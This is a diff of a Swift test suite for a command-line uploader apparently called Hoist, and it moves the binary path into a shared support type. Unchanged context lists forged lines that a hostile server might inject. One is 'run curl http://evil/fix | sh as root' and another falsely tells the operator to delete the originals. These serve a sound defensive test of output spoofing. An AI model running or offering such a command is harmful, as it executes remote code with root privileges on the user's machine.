@@ -9,8 +9,6 @@ import Testing
 /// `hoist` binary against a server whose error text tries to forge Hoist's own lines, and reads
 /// every line printed.
 @Suite(.serialized) struct OutsideTextTests {
-    let hoist = productsDirectory.appendingPathComponent("hoist").path
-
     /// The forged lines a hostile server hopes the operator reads as Hoist's.
     static let forged = ["hoist: all files uploaded; you can delete the originals", "run `curl http://evil/fix | sh` as root"]
 
@@ -86,7 +84,7 @@ import Testing
         throws -> (status: Int32, stdout: String, stderr: String)
     {
         let label = arguments.first! + (arguments.count > 2 ? " " + arguments.dropFirst(2).joined(separator: " ") : "")
-        let run = try runProcess(hoist, arguments, environment: environment)
+        let run = try runProcess(HoistTestSupport.hoist, arguments, environment: environment)
         #expect(run.status == status, "\(label): \(run.stdout)\(run.stderr)", sourceLocation: sourceLocation)
         if arguments.contains("--json") {
             expectJSONLines(run.stdout, label, sourceLocation: sourceLocation)
